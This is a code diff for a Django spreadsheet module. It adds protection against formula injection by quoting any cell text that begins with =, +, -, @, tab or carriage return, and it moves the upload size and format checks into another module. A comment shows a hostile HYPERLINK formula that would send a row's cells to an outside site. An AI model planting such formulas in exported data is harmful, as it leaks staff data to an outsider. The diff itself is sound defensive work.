@@ -1,7 +1,7 @@
 """Spreadsheets for staff who live in Excel: reports as workbooks with a bold, frozen header,
-amounts as numbers in yuan and rates as percentages; uploaded workbooks opened safely (the
-upload guard: size, format, rows), their cells read as staff type them, and their header rows
-read without guessing."""
+amounts as numbers in yuan and rates as percentages; uploaded workbooks opened through the
+upload guard (`core.uploads`), their cells read as staff type them, and their header rows read
+without guessing."""
 
 from __future__ import annotations
 
@@ -19,12 +19,13 @@ from django.core.exceptions import ValidationError
 from django.http import HttpResponse
 from django.utils.functional import Promise
 from django.utils.translation import gettext as _
-from openpyxl import Workbook, load_workbook
+from openpyxl import Workbook
 from openpyxl.cell import WriteOnlyCell
 from openpyxl.styles import Font
 from openpyxl.utils import get_column_letter
 
 from .downloads import file_response
+from .uploads import ImportRefused
 from .validators import clean_code
 
 XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
@@ -40,15 +41,34 @@ class Rate(float):
     """A fraction; written as a percentage."""
 
 
-def _cell(ws, value):
+# Text starting with one of these is run as a formula by Excel, WPS or LibreOffice (or turned
+# into one when the cell is edited): a name typed as =HYPERLINK("http://…"&B2,"Click") would
+# send the row's other cells away when the export is opened.
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+
+
+def written(ws, value, number_format: str | None = None):
+    """`value` as a cell of the write-only sheet `ws`, text always written as text.
+
+    Text that a spreadsheet would take for a formula becomes a string cell with the quote
+    prefix (Excel's leading apostrophe, not part of the value): it shows and reads back
+    exactly as typed. Numbers stay numbers, -5 included; "-5" typed as text stays text.
+    """
     if isinstance(value, Promise):  # a translated choice label
         value = str(value)
     cell = WriteOnlyCell(ws, value=value)
-    if isinstance(value, Money):
-        cell.number_format = MONEY_FORMAT
-    elif isinstance(value, Rate):
-        cell.number_format = RATE_FORMAT
+    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
+        cell.data_type = "s"
+        cell.quotePrefix = True
+    if number_format:
+        cell.number_format = number_format
     return cell
+
+
+def _cell(ws, value):
+    if isinstance(value, Money):
+        return written(ws, value, MONEY_FORMAT)
+    return written(ws, value, RATE_FORMAT if isinstance(value, Rate) else None)
 
 
 def workbook(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) -> bytes:
@@ -61,7 +81,7 @@ def workbook(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) ->
         ws.freeze_panes = "A2"
         head = []
         for name in header:
-            cell = WriteOnlyCell(ws, value=name)
+            cell = written(ws, name)  # survey questions head columns: user text too
             cell.font = Font(bold=True)
             head.append(cell)
         ws.append(head)
@@ -75,46 +95,6 @@ def workbook(sheets: Iterable[tuple[str, Sequence[str], Iterable[Sequence]]]) ->
 def response(content: bytes, filename: str) -> HttpResponse:
     """The workbook as a download saved under `filename` (see `core.downloads`)."""
     return file_response(content, filename, XLSX)
-
-
-# ---- reading uploaded workbooks ---------------------------------------------------------------
-
-MAX_BYTES = 5 * 1024 * 1024
-MAX_ROWS = 20_000
-
-
-class ImportRefused(Exception):
-    """The file as a whole cannot be imported; each message says why, in the user's language."""
-
-    def __init__(self, *messages: str):
-        super().__init__(" ".join(str(m) for m in messages))
-        self.messages = [str(m) for m in messages]
-
-
-def open_upload(upload):
-    """The uploaded Excel workbook, opened read-only; ImportRefused when it is not one.
-
-    The caller closes it.
-    """
-    name = (getattr(upload, "name", "") or "").lower()
-    if upload.size > MAX_BYTES:
-        raise ImportRefused(
-            _("The file is larger than %(size)s MB; split it into smaller files.")
-            % {"size": MAX_BYTES // (1024 * 1024)}
-        )
-    if name.endswith(".xls"):
-        raise ImportRefused(
-            _(
-                "This is an old .xls file: open it in Excel or WPS, save it as an Excel "
-                "workbook (.xlsx) and upload that."
-            )
-        )
-    if not name.endswith(".xlsx"):
-        raise ImportRefused(_("Upload an Excel workbook (.xlsx)."))
-    try:
-        return load_workbook(upload, read_only=True, data_only=True)
-    except Exception:  # noqa: BLE001 - whatever breaks in a foreign file, it is not a workbook
-        raise ImportRefused(_("The file could not be read as an Excel workbook (.xlsx).")) from None
 
 
 # ---- reading cells ----------------------------------------------------------------------------
